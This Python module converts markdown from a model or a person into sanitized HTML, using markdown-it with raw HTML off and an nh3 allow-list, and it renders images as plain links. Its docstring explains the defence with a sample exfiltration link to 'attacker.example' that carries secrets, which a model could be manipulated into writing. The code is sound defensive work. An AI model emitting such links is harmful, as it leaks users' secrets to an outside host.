"""Markdown written by a model or a person, turned into HTML that is safe to put in a page.

Two layers, so that a bug in one is caught by the other: markdown-it never emits raw HTML
from the source (html=False) and refuses javascript:/vbscript:/data: links; nh3 (ammonia)
then keeps only an explicit allow-list of tags and attributes and http/https/mailto URLs.

Images are never rendered as <img>: a model could be talked into writing
![](https://attacker.example/?q=<secrets>) and the browser would fetch it without a click.
They become ordinary links labelled with their alt text instead. (The CSP's img-src is a
third layer.)
"""

from __future__ import annotations

import nh3
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml

ALLOWED_TAGS = frozenset(
    {
        "p", "br", "strong", "em", "del", "s", "code", "pre", "blockquote", "ul", "ol", "li",
        "h1", "h2", "h3", "h4", "h5", "h6",
        "table", "thead", "tbody", "tr", "th", "td",
        "a", "hr",
    }
)
ALLOWED_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}}
URL_SCHEMES = frozenset({"http", "https", "mailto"})
LINK_REL = "noopener noreferrer nofollow"


def _image_as_link(self, tokens, idx, options, env) -> str:
    token = tokens[idx]
    label = self.renderInlineAsText(token.children or [], options, env) or "image"
    href = escapeHtml(token.attrGet("src") or "")
    return f'<a href="{href}">{escapeHtml(label)}</a>'


def _parser() -> MarkdownIt:
    # "commonmark" plus GitHub's tables and ~~strikethrough~~; html=False turns any HTML in
    # the source into visible text rather than markup.
    md = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    md.add_render_rule("image", _image_as_link)
    return md


_md = _parser()


def markdown_to_html(text: str) -> str:
    """Safe HTML for `text` (markdown). Never raises for any input string; "" for empty input."""
    if not text:
        return ""
    html = _md.render(text)
    # markdown-it adds style="text-align:…" to aligned table cells; the CSP forbids inline
    # styles anyway, so the allow-list simply drops them.
    return nh3.clean(
        html,
        tags=set(ALLOWED_TAGS),
        attributes={tag: set(attrs) for tag, attrs in ALLOWED_ATTRIBUTES.items()},
        url_schemes=set(URL_SCHEMES),
        link_rel=LINK_REL,
        strip_comments=True,
    ).strip()
